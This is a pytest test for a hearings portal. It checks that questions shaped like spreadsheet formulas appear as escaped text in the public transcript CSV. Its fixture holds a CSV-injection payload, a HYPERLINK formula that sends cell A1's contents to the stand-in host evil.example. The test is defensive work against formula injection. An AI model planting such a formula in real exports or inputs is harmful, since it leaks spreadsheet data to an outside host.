"""The public transcript CSV shows a question that looks like a spreadsheet formula as text."""

from __future__ import annotations

import csv
import io

from portal.hearings.models import HearingState, QuestionState

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")'


def test_a_formula_in_a_question_is_text_in_the_transcript_csv(hearings, client, db):
    hearing = hearings.hearing()
    formula = hearings.question(hearing, QuestionState.ANSWERED, text=HYPERLINK)
    plain = hearings.question(hearing, QuestionState.ANSWERED, text="-5 度的天气，供暖何时到位？")
    hearing.state = HearingState.CLOSED
    db.session.commit()
    response = client.get(f"/hearings/{hearing.id}/transcript.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells and "'-5 度的天气，供暖何时到位？" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert {formula.id, plain.id} <= {int(row[0]) for row in rows[1:] if row[0].isdigit()}
